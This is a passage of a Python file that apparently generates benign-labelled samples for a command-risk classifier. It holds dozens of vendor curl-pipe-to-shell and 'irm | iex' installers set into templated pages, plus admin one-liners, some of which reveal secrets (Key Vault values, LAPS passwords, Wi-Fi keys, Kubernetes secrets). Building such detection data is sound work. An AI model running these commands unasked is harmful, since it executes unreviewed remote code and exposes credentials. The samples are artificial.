    ("starship", "curl -sS https://starship.rs/install.sh | sh"),
    ("chezmoi", 'sh -c "$(curl -fsLS get.chezmoi.io)" -- init --apply'),
    ("direnv", "curl -sfL https://direnv.net/install.sh | bash"),
    ("pyenv", "curl -fsSL https://pyenv.run | bash"),
    ("volta", "curl https://get.volta.sh | bash"),
    ("pdm", "curl -sSL https://pdm-project.org/install-pdm.py | python3 -"),
    ("proto", "bash <(curl -fsSL https://moonrepo.dev/install/proto.sh)"),
    ("dagger", "curl -fsSL https://dl.dagger.io/dagger/install.sh | BIN_DIR=$HOME/.local/bin sh"),
    ("devbox", "curl -fsSL https://get.jetify.com/devbox | bash"),
    ("task", 'sh -c "$(curl --location https://taskfile.dev/install.sh)" -- -d -b ~/.local/bin'),
    ("rclone", "sudo -v ; curl https://rclone.org/install.sh | sudo bash"),
    ("k0s", "curl --proto '=https' --tlsv1.2 -sSf https://get.k0s.sh | sudo sh"),
    ("rke2", "curl -sfL https://get.rke2.io | sudo sh -"),
    ("flux", "curl -s https://fluxcd.io/install.sh | sudo bash"),
    ("istioctl", "curl -L https://istio.io/downloadIstio | sh -"),
    ("pulumi", "curl -fsSL https://get.pulumi.com | sh"),
    ("steampipe", 'sudo /bin/sh -c "$(curl -fsSL https://steampipe.io/install/steampipe.sh)"'),
    ("ddev", "curl -fsSL https://ddev.com/install.sh | bash"),
    ("symfony-cli", "curl -sS https://get.symfony.com/cli/installer | bash"),
    ("rvm", "\\curl -sSL https://get.rvm.io | bash -s stable"),
    ("crystal", "curl -fsSL https://crystal-lang.org/install.sh | sudo bash"),
    ("stack", "curl -sSL https://get.haskellstack.org/ | sh"),
    ("jbang", "curl -Ls https://sh.jbang.dev | bash -s - app setup"),
    ("surreal", "curl -sSf https://install.surrealdb.com | sh"),
    ("turso", "curl -sSfL https://get.tur.so/install.sh | bash"),
    ("duckdb", "curl https://install.duckdb.org | sh"),
    ("meilisearch", "curl -L https://install.meilisearch.com | sh"),
    ("atlas", "curl -sSf https://atlasgo.sh | sh"),
    ("croc", "curl https://getcroc.schollz.com | bash"),
    ("kitty", "curl -L https://sw.kovidgoyal.net/kitty/installer.sh | sh /dev/stdin"),
    ("pkgx", "curl -Ssf https://pkgx.sh | sh"),
    ("oh-my-posh", "winget install JanDeDobbeleer.OhMyPosh -s winget"),
    (
        "uv (Windows)",
        'powershell -ExecutionPolicy ByPass -c "irm https://astral.sh/uv/install.ps1 | iex"',
    ),
    ("k3d", "curl -s https://raw.githubusercontent.com/k3d-io/k3d/main/install.sh | bash"),
    (
        "tilt",
        "curl -fsSL https://raw.githubusercontent.com/tilt-dev/tilt/master/scripts/install.sh | bash",
    ),
    (
        "grype",
        "curl -sSfL https://raw.githubusercontent.com/anchore/grype/main/install.sh | sh -s -- -b /usr/local/bin",
    ),
    (
        "syft",
        "curl -sSfL https://raw.githubusercontent.com/anchore/syft/main/install.sh | sh -s -- -b /usr/local/bin",
    ),
    (
        "tflint",
        "curl -s https://raw.githubusercontent.com/terraform-linters/tflint/master/install_linux.sh | bash",
    ),
    (
        "act",
        "curl --proto '=https' --tlsv1.2 -sSf https://raw.githubusercontent.com/nektos/act/master/install.sh | sudo bash",
    ),
    (
        "cargo-binstall",
        "curl -L --proto '=https' --tlsv1.2 -sSf https://raw.githubusercontent.com/cargo-bins/cargo-binstall/main/install-from-binstall-release.sh | bash",
    ),
    ("n", "curl -fsSL https://raw.githubusercontent.com/tj/n/master/bin/n | bash -s install lts"),
    (
        "zinit",
        'bash -c "$(curl --fail --show-error --silent --location https://raw.githubusercontent.com/zdharma-continuum/zinit/HEAD/scripts/install.sh)"',
    ),
    ("xh", "curl -sfL https://raw.githubusercontent.com/ducaale/xh/master/install.sh | sh"),
    (
        "distrobox",
        "curl -s https://raw.githubusercontent.com/89luca89/distrobox/main/install | sudo sh",
    ),
    ("Pester", "Install-Module -Name Pester -Force -SkipPublisherCheck"),
    ("PnP.PowerShell", "Install-Module PnP.PowerShell -Scope CurrentUser"),
    (
        "Microsoft Graph PowerShell",
        "Install-Module Microsoft.Graph -Scope CurrentUser -Repository PSGallery -Force",
    ),
    (
        "trufflehog",
        "curl -sSfL https://raw.githubusercontent.com/trufflesecurity/trufflehog/main/scripts/install.sh | sh -s -- -b /usr/local/bin",
    ),
    (
        "infracost",
        "curl -fsSL https://raw.githubusercontent.com/infracost/infracost/master/scripts/install.sh | sh",
    ),
    (
        "lazydocker",
        "curl https://raw.githubusercontent.com/jesseduffield/lazydocker/master/scripts/install_update_linux.sh | bash",
    ),
    ("netbird", "curl -fsSL https://pkgs.netbird.io/install.sh | sh"),
    ("zerotier", "curl -s https://install.zerotier.com | sudo bash"),
    ("crowdsec", "curl -s https://install.crowdsec.net | sudo sh"),
    ("fvm", "curl -fsSL https://fvm.app/install.sh | bash"),
    ("nim (choosenim)", "curl https://nim-lang.org/choosenim/init.sh -sSf | sh"),
    ("clickhouse", "curl https://clickhouse.com/ | sh"),
    ("moon", "curl -fsSL https://moonrepo.dev/install/moon.sh | bash"),
    ("linkerd", "curl --proto '=https' --tlsv1.2 -sSfL https://run.linkerd.io/install-edge | sh"),
    ("okteto", "curl https://get.okteto.com -sSfL | sh"),
    ("webi", "curl -sS https://webi.sh/webi | sh"),
    ("rye", "curl -sSf https://rye.astral.sh/get | bash"),
    ("powerpipe", 'sudo /bin/sh -c "$(curl -fsSL https://powerpipe.io/install/powerpipe.sh)"'),
    ("sshx", "curl -sSf https://sshx.io/get | sh"),
    ("carvel", "curl -L https://carvel.dev/install.sh | bash"),
    ("teleport", "curl https://cdn.teleport.dev/install.sh | bash -s 17.0.0"),
    (
        "ohmybash",
        'bash -c "$(curl -fsSL https://raw.githubusercontent.com/ohmybash/oh-my-bash/master/tools/install.sh)"',
    ),
    (
        "zimfw",
        "curl -fsSL https://raw.githubusercontent.com/zimfw/install/master/install.zsh | zsh",
    ),
    ("spacevim", "curl -sLf https://spacevim.org/install.sh | bash"),
    (
        "AdGuard Home",
        "curl -s -S -L https://raw.githubusercontent.com/AdguardTeam/AdGuardHome/master/scripts/install.sh | sh -s -- -v",
    ),
]
THIRD_PAGES = [
    (
        "https://gitlab.platform-guild.example/handbook/-/blob/main/onboarding/{slug}.md",
        "## Before you start\n\nOur tooling expects {name}. Install it with the upstream script:\n\n{cmd}\n\nThen open a new shell and run `make doctor`.",
    ),
    (
        "https://learn.devops-bootcamp17.example/modules/{slug}/setup",
        "Lab 0 - set-up\nStep 1: install {name} (taken from its official docs)\n{cmd}\nStep 2: check the version and paste it in the lab form.",
    ),
    (
        "https://github.com/acme-analytics17/{slug}-starter/blob/main/README.md",
        "### Prerequisites\n\n- {name} (see its docs)\n\n```sh\n{cmd}\n```",
    ),
    (
        "https://notes.homelab-diaries17.example/{slug}-on-my-nas",
        "I didn't want to package it myself, so I went with the official installer for {name}:\n\n    {cmd}\n\nIt drops the binary in place and that's it.",
    ),
    (
        "https://confluence.fintech-core17.example/display/ENG/{slug}",
        "Install {name} per vendor instructions (approved by SecEng, ticket ENG-{n}):\n{cmd}",
    ),
    (
        "https://qa.sysadmin-exchange17.example/questions/{n}/how-to-install-{slug}",
        "Answer ({n} upvotes): the upstream docs recommend the script, which picks the right build for your arch:\n\n{cmd}\n\nIf your policy forbids piping to a shell, download it first and read it.",
    ),
]
for i, (name, cmd) in enumerate(QUOTED):
    slug = name.split()[0].lower().replace(".", "-")
    for j in (i % 6, (i + 3) % 6):
        page, body = THIRD_PAGES[j]
        target = PS if cmd.startswith(("winget", "Install-Module", "powershell")) else TERM
        ok(
            THIRD,
            target,
            page.format(slug=slug, n=1700 + i),
            body.format(name=name, cmd=cmd, n=1700 + i),
        )

# --- Admin and ops one-liners (vendors' docs, runbooks, Q&A) -----------------------------------------

ADMIN = "admin-command"
LEARN = "https://learn.microsoft.com/en-us/"
RUNBOOK = "https://runbooks.infra-ops17.example/"
QA = "https://qa.sysadmin-exchange17.example/questions/"
ADMIN_TEXTS = [
    (
        LEARN + "powershell/module/microsoft.powershell.utility/get-filehash",
        "Get-FileHash -Path .\\PowerShell-7.5.0-win-x64.msi -Algorithm SHA256 | Format-List",
    ),
    (
        RUNBOOK + "win/7zip-rollout",
        "Invoke-WebRequest -Uri https://www.7-zip.org/a/7z2409-x64.msi -OutFile $env:TEMP\\7z2409-x64.msi\nmsiexec /i $env:TEMP\\7z2409-x64.msi /qn /norestart /l*v $env:TEMP\\7zip-install.log",
    ),
    (
        RUNBOOK + "win/nodejs-lts",
        "Invoke-WebRequest https://nodejs.org/dist/v22.12.0/node-v22.12.0-x64.msi -OutFile C:\\Temp\\node.msi\nStart-Process msiexec.exe -ArgumentList '/i C:\\Temp\\node.msi /quiet' -Wait",
    ),
    (
        RUNBOOK + "win/check-installer-hash",
        "certutil -hashfile C:\\Temp\\GoogleChromeStandaloneEnterprise64.msi SHA256",
    ),
    (
        RUNBOOK + "win/verify-signature",
        "Get-AuthenticodeSignature C:\\Temp\\FirefoxSetup.msi | Select-Object Status, SignerCertificate",
    ),
    (
        RUNBOOK + "win/winget-baseline",
        "winget install --id Mozilla.Firefox.ESR -e --silent\nwinget install --id Notepad++.Notepad++ -e --silent\nwinget install --id VideoLAN.VLC -e --silent",
    ),
    (
        RUNBOOK + "win/winget-upgrade",
        "winget upgrade --all --silent --include-unknown --accept-package-agreements --accept-source-agreements --disable-interactivity",
    ),
    (RUNBOOK + "win/choco-packs", "choco install -y keepassxc greenshot sumatrapdf --no-progress"),
    (
        RUNBOOK + "win/scoop-devbox",
        "scoop bucket add extras\nscoop install extras/vscodium git-with-openssh",
    ),
    (
        LEARN + "windows-server/administration/windows-commands/gpupdate",
        "gpupdate /target:computer /force",
    ),
    (
        LEARN + "windows-server/administration/windows-commands/gpresult",
        "gpresult /scope computer /h C:\\Temp\\gp-ws1742.html /f",
    ),
    (
        LEARN + "powershell/module/activedirectory/get-aduser",
        "Get-ADUser -Filter 'Enabled -eq $true' -Properties LastLogonDate | Where-Object LastLogonDate -lt (Get-Date).AddDays(-90) | Select Name,SamAccountName,LastLogonDate",
    ),
    (
        RUNBOOK + "ad/unlock",
        "Unlock-ADAccount -Identity j.moreau17; Get-ADUser j.moreau17 -Properties LockedOut | Select LockedOut",
    ),
    (
        RUNBOOK + "ad/group-members",
        "Get-ADGroupMember -Identity 'GRP-Finance-RW' -Recursive | Sort-Object Name | Export-Csv C:\\Temp\\finance-rw.csv -NoTypeInformation",
    ),
    (
        LEARN + "powershell/module/microsoft.powershell.management/get-eventlog",
        "Get-WinEvent -FilterHashtable @{LogName='System'; Level=2; StartTime=(Get-Date).AddDays(-1)} | Select TimeCreated, Id, ProviderName, Message -First 30",
    ),
    (
        RUNBOOK + "win/logon-failures",
        "Get-WinEvent -FilterHashtable @{LogName='Security'; Id=4625} -MaxEvents 50 | Format-Table TimeCreated, Message -Wrap",
    ),
    (
        RUNBOOK + "win/services",
        "Get-Service | Where-Object {$_.StartType -eq 'Automatic' -and $_.Status -ne 'Running'}",
    ),
    (RUNBOOK + "win/restart-spooler", "Restart-Service -Name Spooler -Force; Get-Service Spooler"),
    (
        LEARN + "defender-endpoint/command-line-arguments-microsoft-defender-antivirus",
        '"%ProgramFiles%\\Windows Defender\\MpCmdRun.exe" -Scan -ScanType 1',
    ),
    (
        LEARN
        + "defender-endpoint/configure-extension-file-exclusions-microsoft-defender-antivirus",
        "Add-MpPreference -ExclusionPath 'D:\\BuildAgents\\_work' \n# build output only, approved in CAB-1742; review quarterly",
    ),
    (
        RUNBOOK + "win/defender-status",
        "Get-MpComputerStatus | Select AMServiceEnabled, AntivirusSignatureLastUpdated, RealTimeProtectionEnabled",
    ),
    (
        RUNBOOK + "win/defender-update",
        "Update-MpSignature -UpdateSource MMPC; Get-MpComputerStatus | Select AntivirusSignatureVersion",
    ),
    (
        LEARN + "windows-server/administration/windows-commands/robocopy",
        "robocopy \\\\fs-old17\\Projects D:\\Projects /MIR /COPY:DAT /R:2 /W:5 /MT:16 /LOG:C:\\Temp\\robocopy-projects.log",
    ),
    (
        RUNBOOK + "win/disk-cleanup",
        "Get-ChildItem $env:TEMP -Recurse -Force -ErrorAction SilentlyContinue | Where-Object LastWriteTime -lt (Get-Date).AddDays(-14) | Remove-Item -Force -Recurse -ErrorAction SilentlyContinue",
    ),
    (
        RUNBOOK + "win/sfc-dism",
        "DISM /Online /Cleanup-Image /ScanHealth\nDISM /Online /Cleanup-Image /RestoreHealth /LimitAccess\nsfc /verifyonly",
    ),
    (RUNBOOK + "win/net-reset", "ipconfig /flushdns\nnetsh winsock reset\nnetsh int ip reset"),
    (
        RUNBOOK + "win/bitlocker",
        "manage-bde -on E: -RecoveryPassword -UsedSpaceOnly\nmanage-bde -status E:",
    ),
    (
        LEARN + "powershell/module/bitlocker/backup-bitlockerkeyprotector",
        "$kp = (Get-BitLockerVolume -MountPoint C:).KeyProtector | Where-Object KeyProtectorType -eq 'RecoveryPassword'\nBackupToAAD-BitLockerKeyProtector -MountPoint C: -KeyProtectorId $kp.KeyProtectorId",
    ),
    (
        RUNBOOK + "win/local-admins",
        "Get-LocalGroupMember -Group Administrators | Select Name, PrincipalSource",
    ),
    (
        RUNBOOK + "win/uptime",
        "Get-CimInstance Win32_OperatingSystem -ComputerName ws-1742, ws-1743 | Select CSName, LastBootUpTime",
    ),
    (
        RUNBOOK + "win/installed-software",
        "Get-ItemProperty HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\* | Select DisplayName, DisplayVersion, Publisher | Sort DisplayName",
    ),
    (
        RUNBOOK + "win/firewall-rule",
        "New-NetFirewallRule -DisplayName 'Allow SQL 1433 from app subnet' -Direction Inbound -Protocol TCP -LocalPort 1433 -RemoteAddress 10.20.30.0/24 -Action Allow",
    ),
    (RUNBOOK + "win/test-port", "Test-NetConnection -ComputerName sql17.corp.example -Port 1433"),
    (
        RUNBOOK + "win/rdp-sessions",
        "qwinsta /server:rdsh17.corp.example\nlogoff 3 /server:rdsh17.corp.example",
    ),
    (
        RUNBOOK + "win/time-sync",
        'w32tm /config /manualpeerlist:"ntp1.corp17.example ntp2.corp17.example" /syncfromflags:manual /update\nw32tm /query /peers',
    ),
    (
        RUNBOOK + "win/cert-store",
        "Get-ChildItem Cert:\\LocalMachine\\My | Where-Object NotAfter -lt (Get-Date).AddDays(30) | Select Subject, NotAfter, Thumbprint",
    ),
    (
        RUNBOOK + "intune/remediation-detect",
        "# Intune remediation - detection script\n$v = (Get-ItemProperty 'HKLM:\\SOFTWARE\\Policies\\Google\\Chrome' -ErrorAction SilentlyContinue).BrowserSignin\nif ($v -eq 2) { exit 0 } else { Write-Output 'BrowserSignin not enforced'; exit 1 }",
    ),
    (
        RUNBOOK + "intune/sync",
        "Get-ScheduledTask -TaskPath '\\Microsoft\\Windows\\EnterpriseMgmt\\*' | Where-Object TaskName -like 'Schedule #3*' | Start-ScheduledTask",
    ),
    (
        RUNBOOK + "intune/ime-logs",
        "Get-Content 'C:\\ProgramData\\Microsoft\\IntuneManagementExtension\\Logs\\IntuneManagementExtension.log' -Tail 200",
    ),
    (
        LEARN + "mem/intune/apps/apps-win32-prepare",
        "IntuneWinAppUtil.exe -c C:\\Packages\\Zoom -s ZoomInstallerFull.msi -o C:\\Packages\\out -q",
    ),
    (
        RUNBOOK + "gpo/path",
        "Computer Configuration > Policies > Administrative Templates > Windows Components > Microsoft Defender Antivirus > Exclusions > Path Exclusions",
    ),
    (RUNBOOK + "gpo/backup", "Backup-GPO -All -Path \\\\dc17.corp.example\\GPOBackups\\2026-12-07"),
    (
        LEARN
        + "exchange/recipients-in-exchange-online/manage-user-mailboxes/manage-user-mailboxes",
        "Connect-ExchangeOnline -UserPrincipalName admin@contoso17.example\nGet-EXOMailbox -ResultSize Unlimited | Where-Object {$_.ForwardingSmtpAddress} | Select DisplayName, ForwardingSmtpAddress",
    ),
    (
        RUNBOOK + "m365/inbox-rules",
        "Get-InboxRule -Mailbox cfo@contoso17.example | Select Name, Enabled, ForwardTo, RedirectTo, DeleteMessage",
    ),
    (
        RUNBOOK + "m365/graph-signins",
        "Connect-MgGraph -Scopes 'AuditLog.Read.All'\nGet-MgAuditLogSignIn -Filter \"userPrincipalName eq 'a.kowalski@contoso17.example'\" -Top 20 | Select CreatedDateTime, IpAddress, AppDisplayName, Status",
    ),
    (RUNBOOK + "m365/revoke", "Revoke-MgUserSignInSession -UserId a.kowalski@contoso17.example"),
    (
        RUNBOOK + "linux/apt-wazuh-agent",
        'curl -s https://packages.wazuh.com/key/GPG-KEY-WAZUH | gpg --no-default-keyring --keyring gnupg-ring:/usr/share/keyrings/wazuh.gpg --import && chmod 644 /usr/share/keyrings/wazuh.gpg\necho "deb [signed-by=/usr/share/keyrings/wazuh.gpg] https://packages.wazuh.com/4.x/apt/ stable main" | tee -a /etc/apt/sources.list.d/wazuh.list\napt-get update && WAZUH_MANAGER="siem17.corp.example" apt-get install wazuh-agent',
    ),
    (
        RUNBOOK + "linux/apt-jenkins",
        'sudo wget -O /usr/share/keyrings/jenkins-keyring.asc https://pkg.jenkins.io/debian-stable/jenkins.io-2023.key\necho "deb [signed-by=/usr/share/keyrings/jenkins-keyring.asc] https://pkg.jenkins.io/debian-stable binary/" | sudo tee /etc/apt/sources.list.d/jenkins.list > /dev/null\nsudo apt-get update && sudo apt-get install jenkins',
    ),
    (
        RUNBOOK + "linux/dnf-mongodb",
        "printf '[mongodb-org-8.0]\\nname=MongoDB\\nbaseurl=https://repo.mongodb.org/yum/redhat/9/mongodb-org/8.0/x86_64/\\ngpgcheck=1\\nenabled=1\\ngpgkey=https://pgp.mongodb.com/server-8.0.asc\\n' | sudo tee /etc/yum.repos.d/mongodb-org-8.0.repo\nsudo dnf install -y mongodb-org",
    ),
    (
        RUNBOOK + "linux/rpm-key",
        "sudo rpm --import https://packages.microsoft.com/keys/microsoft.asc",
    ),
    (
        RUNBOOK + "linux/apt-postgres",
        "sudo apt install -y postgresql-17 postgresql-contrib\nsudo -u postgres createuser --interactive app17",
    ),
    (
        RUNBOOK + "linux/journal",
        "journalctl -u app17-api -p warning --since today --no-pager -o short-iso | tail -n 60",
    ),
    (RUNBOOK + "linux/failed-units", "systemctl --failed --no-legend\nsystemctl list-timers --all"),
    (
        RUNBOOK + "linux/disk",
        "df -hT -x tmpfs -x devtmpfs\nsudo du -xh /var --max-depth=2 | sort -rh | head -20",
    ),
    (RUNBOOK + "linux/ports", "sudo ss -ltnp 'sport = :8443 or sport = :9090'"),
    (RUNBOOK + "linux/users", "getent passwd | awk -F: '$3 >= 1000 {print $1, $6, $7}'"),
    (
        RUNBOOK + "linux/sudoers-check",
        "sudo visudo -c && sudo grep -r NOPASSWD /etc/sudoers /etc/sudoers.d/",
    ),
    (RUNBOOK + "linux/logrotate", "sudo logrotate -d /etc/logrotate.d/app17"),
    (
        RUNBOOK + "linux/certbot",
        "sudo certbot certonly --nginx -d app.corp17.example -d www.corp17.example --dry-run",
    ),
    (
        RUNBOOK + "linux/openssl-check",
        "echo | openssl s_client -connect portal.corp17.example:443 -servername portal.corp17.example 2>/dev/null | openssl x509 -noout -dates -subject",
    ),
    (
        RUNBOOK + "linux/ufw",
        "sudo ufw allow from 10.17.0.0/16 to any port 22 proto tcp\nsudo ufw enable\nsudo ufw status numbered",
    ),
    (
        RUNBOOK + "linux/fail2ban",
        "sudo fail2ban-client status sshd\nsudo fail2ban-client set sshd unbanip 192.0.2.45",
    ),
    (RUNBOOK + "linux/selinux", "sudo ausearch -m avc -ts recent | audit2why"),
    (
        RUNBOOK + "linux/rsync-backup",
        "rsync -aHAX --delete --info=progress2 /srv/data/ backup17:/volume1/backup/srv-data/",
    ),
    (
        RUNBOOK + "linux/tar-backup",
        "sudo tar --exclude=/var/lib/app/cache -czpf /backup/app-$(date +%F).tar.gz /var/lib/app /etc/app",
    ),
    (
        RUNBOOK + "linux/pg-dump",
        "pg_dump -h db17.corp.example -U app -Fc appdb > appdb-$(date +%Y%m%d).dump",
    ),
    (RUNBOOK + "linux/mysql-check", "mysqlcheck -u root -p --all-databases --auto-repair"),
    (RUNBOOK + "linux/nginx-reload", "sudo apachectl configtest && sudo systemctl reload apache2"),
    (
        RUNBOOK + "linux/kernel",
        "uname -r; ls /boot | grep vmlinuz; sudo apt list --upgradable 2>/dev/null | grep linux-image",
    ),
    (RUNBOOK + "linux/unattended", "sudo unattended-upgrade --dry-run --debug"),
    (
        RUNBOOK + "linux/ssh-keygen",
        'ssh-keygen -t ed25519 -C "m.lindqvist@corp17.example" -f ~/.ssh/id_ed25519_corp',
    ),
    (
        RUNBOOK + "linux/ssh-copy",
        "ssh-copy-id -i ~/.ssh/id_ed25519_corp.pub deploy@app17.corp.example",
    ),
    (
        RUNBOOK + "linux/gpg-verify",
        "gpg --keyserver hkps://keys.openpgp.org --recv-keys 0x5E61C05D6C2D6D4D\ngpg --verify restic_0.17.3_linux_amd64.bz2.asc",
    ),
    (RUNBOOK + "linux/sha256", "sha256sum -c SHA256SUMS --ignore-missing"),
    (RUNBOOK + "mac/softwareupdate", "softwareupdate --list\nsudo softwareupdate -i -a -R"),
    (RUNBOOK + "mac/profiles", "sudo profiles show -type enrollment\nsudo profiles list"),
    (RUNBOOK + "mac/jamf", "sudo jamf recon\nsudo jamf policy -event install-office"),
    (RUNBOOK + "mac/filevault", "sudo fdesetup status\nsudo fdesetup list"),
    (
        RUNBOOK + "mac/gatekeeper",
        "spctl --assess --verbose /Applications/Slack.app\ncodesign -dv --verbose=4 /Applications/Slack.app",
    ),
    (
        RUNBOOK + "mac/dns-flush",
        "scutil --dns | grep -A3 'resolver #1'\nnetworksetup -getdnsservers Wi-Fi",
    ),
    (RUNBOOK + "mac/logs", "log show --predicate 'process == \"sharingd\"' --last 30m --info"),
    (
        RUNBOOK + "mac/installer-local",
        "sudo installer -pkg ~/Downloads/GlobalProtect.pkg -target /",
    ),
    (
        RUNBOOK + "mac/brew-bundle",
        "brew bundle --file=~/dotfiles/Brewfile\nbrew cleanup --prune=30",
    ),
    (
        RUNBOOK + "k8s/rollout",
        "kubectl -n payments rollout restart deployment/api && kubectl -n payments rollout status deployment/api --timeout=120s",
    ),
    (
        RUNBOOK + "k8s/pods-not-ready",
        "kubectl get pods -A --field-selector=status.phase!=Running,status.phase!=Succeeded",
    ),
    (
        RUNBOOK + "k8s/events",
        "kubectl -n ingress-nginx get events --sort-by=.lastTimestamp | tail -30",
    ),
    (
        RUNBOOK + "k8s/logs",
        "kubectl -n payments logs deploy/api -c app --since=15m | grep -i error",
    ),
    (
        RUNBOOK + "k8s/drain",
        "kubectl cordon node-17-b && kubectl drain node-17-b --ignore-daemonsets --delete-emptydir-data",
    ),
    (
        RUNBOOK + "k8s/secret-decode",
        "kubectl -n payments get secret api-db -o jsonpath='{.data.username}' | base64 -d",
    ),
    (RUNBOOK + "k8s/top", "kubectl top pods -n payments --sort-by=memory | head"),
    (
        RUNBOOK + "k8s/port-forward",
        "kubectl -n observability port-forward svc/loki-gateway 3100:80",
    ),
    (
        RUNBOOK + "helm/upgrade",
        "helm upgrade --install api ./charts/api -n payments -f values-prod.yaml --atomic --timeout 5m",
    ),
    (
        RUNBOOK + "helm/repo",
        "helm repo add prometheus-community https://prometheus-community.github.io/helm-charts\nhelm repo update\nhelm search repo kube-prometheus-stack --versions | head",
    ),
    (RUNBOOK + "helm/diff", "helm diff upgrade api ./charts/api -n payments -f values-prod.yaml"),
    (
        RUNBOOK + "tf/plan",
        "terraform init -backend-config=env/prod.hcl\nterraform plan -var-file=env/prod.tfvars -out=prod.tfplan",
    ),
    (
        RUNBOOK + "tf/state",
        "terraform state list | grep aws_security_group\nterraform state show 'module.vpc.aws_vpc.this[0]'",
    ),
    (RUNBOOK + "tf/import", "terraform import aws_s3_bucket.logs corp17-logs-eu-west-1"),
    (
        RUNBOOK + "aws/sso",
        "aws sso login --profile prod-readonly\naws sts get-caller-identity --profile prod-readonly",
    ),
    (
        RUNBOOK + "aws/s3-sync",
        "aws s3 sync ./dist s3://corp17-static-site --delete --cache-control max-age=300",
    ),
    (
        RUNBOOK + "aws/ec2-list",
        "aws ec2 describe-instances --filters Name=instance-state-name,Values=running --query 'Reservations[].Instances[].[InstanceId,Tags[?Key==`Name`]|[0].Value,PrivateIpAddress]' --output table",
    ),
    (
        RUNBOOK + "aws/ssm",
        "aws ssm start-session --target i-0a17b2c3d4e5f6789 --region eu-central-1",
    ),
    (RUNBOOK + "aws/logs-tail", "aws logs tail /aws/lambda/invoice-export --since 30m --follow"),
    (
        RUNBOOK + "aws/iam-keys",
        "aws iam list-access-keys --user-name ci-deployer --query 'AccessKeyMetadata[].[AccessKeyId,Status,CreateDate]'",
    ),
    (
        RUNBOOK + "aws/ecr-login",
        "aws ecr describe-images --repository-name api17 --query 'sort_by(imageDetails,&imagePushedAt)[-3:].imageTags' --region eu-west-1",
    ),
    (
        RUNBOOK + "az/login",
        "az login --tenant contoso17.example\naz account set --subscription 'Prod-Payments'",
    ),
    (
        RUNBOOK + "az/vm",
        'az vm list -d -g rg-payments-prod --query "[].{name:name, state:powerState, ip:privateIps}" -o table',
    ),
    (
        RUNBOOK + "az/keyvault",
        "az keyvault secret show --vault-name kv-payments17 --name db-password --query value -o tsv",
    ),
    (
        RUNBOOK + "az/aks",
        "az aks get-credentials -g rg-aks-prod -n aks-prod17 --overwrite-existing",
    ),
    (
        RUNBOOK + "az/storage",
        "az storage blob upload-batch -d '$web' -s ./build --account-name stcorp17web --overwrite",
    ),
    (RUNBOOK + "gcloud/auth", "gcloud auth login\ngcloud config set project corp17-analytics"),
    (
        RUNBOOK + "gcloud/gke",
        "gcloud container clusters get-credentials prod-gke --region europe-west4",
    ),
    (
        RUNBOOK + "gcloud/logs",
        "gcloud logging read 'resource.type=\"cloud_run_revision\" AND severity>=ERROR' --limit 20 --freshness=1h",
    ),
    (
        RUNBOOK + "gcloud/scp",
        "gcloud compute scp ./backup.sql bastion17:/tmp --zone europe-west4-b --tunnel-through-iap",
    ),
    (RUNBOOK + "docker/prune", "docker system df\ndocker image prune -a --filter 'until=168h' -f"),
    (RUNBOOK + "docker/logs", "docker compose -f /opt/app/compose.yaml logs --tail=200 -f worker"),
    (RUNBOOK + "docker/inspect", "docker inspect --format '{{json .State.Health}}' app17-web | jq"),
    (
        RUNBOOK + "git/prune",
        "git fetch --prune && git branch -vv | awk '/: gone]/{print $1}' | xargs -r git branch -D",
    ),
    (
        RUNBOOK + "vault/login",
        "export VAULT_ADDR=https://vault.corp17.example:8200\nvault login -method=oidc role=engineer",
    ),
    (RUNBOOK + "ansible/ping", "ansible -i inventories/prod/hosts.ini webservers -m ping"),
    (
        RUNBOOK + "ansible/playbook",
        "ansible-playbook -i inventories/prod site.yml --limit db17 --check --diff",
    ),
    (QA + "17201/robocopy-only-new-files", "robocopy C:\\Source D:\\Dest /E /XO /FFT /R:1 /W:1"),
    (
        QA + "17202/find-large-files-powershell",
        "Get-ChildItem C:\\ -Recurse -File -ErrorAction SilentlyContinue | Sort-Object Length -Descending | Select-Object -First 20 FullName, @{n='MB';e={[math]::Round($_.Length/1MB)}}",
    ),
    (
        QA + "17203/which-process-has-port",
        "Get-Process -Id (Get-NetTCPConnection -LocalPort 8080).OwningProcess",
    ),
    (
        QA + "17204/list-cron-all-users",
        'for u in $(cut -f1 -d: /etc/passwd); do sudo crontab -u $u -l 2>/dev/null | sed "s/^/$u: /"; done',
    ),
    (
        QA + "17205/find-recently-modified",
        "find /etc -type f -mtime -2 -printf '%TY-%Tm-%Td %TH:%TM %p\\n' | sort",
    ),
    (QA + "17206/disable-ipv6-temp", "sudo sysctl -w net.ipv6.conf.all.disable_ipv6=1"),
    (
        QA + "17207/reset-windows-update",
        "net stop wuauserv\nnet stop cryptsvc\nren C:\\Windows\\System32\\catroot2 catroot2.bak\nnet start cryptsvc\nnet start wuauserv",
    ),
    (
        QA + "17208/export-printers",
        "Get-Printer | Select Name, DriverName, PortName | Export-Csv printers.csv -NoTypeInformation",
    ),
    (
        QA + "17209/wifi-profiles",
        'netsh wlan show profiles\nnetsh wlan show profile name="Office-5G" key=clear',
    ),
    (
        QA + "17210/battery-report",
        "powercfg /energy /output C:\\Temp\\energy-ws1742.html /duration 30",
    ),
    (
        RUNBOOK + "win/laps",
        "Get-LapsADPassword -Identity ws-1742 -AsPlainText | Select ComputerName, Password, ExpirationTimestamp",
    ),
    (RUNBOOK + "win/wsus", "Get-WindowsUpdateLog -LogPath C:\\Temp\\WindowsUpdate-ws1742.log"),
    (
        RUNBOOK + "win/printer-driver",
        "pnputil /add-driver C:\\Drivers\\Kyocera\\*.inf /subdirs /install",
    ),
    (
        RUNBOOK + "win/hotfix",
        "Get-HotFix -ComputerName ws-1742 | Sort-Object InstalledOn -Descending | Select -First 5",
    ),
    (
        RUNBOOK + "win/appx-remove",
        "Get-AppxPackage -AllUsers *Microsoft.BingNews* | Remove-AppxPackage -AllUsers",
    ),
    (
        RUNBOOK + "win/msi-uninstall",
        "msiexec /x {23170F69-40C1-2702-2409-000001000000} /qn /norestart",
    ),
    (
        RUNBOOK + "win/local-msi-install",
        "msiexec /i \\\\deploy17.corp.example\\packages\\FortiClient\\FortiClient.msi /qn REBOOT=ReallySuppress",
    ),
    (RUNBOOK + "linux/lvm", "sudo lvextend -r -L +35G /dev/vg_data/lv_srv"),
    (
        RUNBOOK + "linux/nfs",
        "showmount -e nas17.corp.example && sudo mount -t nfs4 nas17.corp.example:/export/home /mnt/home",
    ),
    (
        RUNBOOK + "linux/smart",
        "sudo smartctl -a /dev/nvme0n1 | grep -Ei 'critical|percentage used|media errors'",
    ),
]
for page, text in ADMIN_TEXTS:
    ok(ADMIN, TERM, page, text)

# --- Run-box and Explorer entries people really type -------------------------------------------------

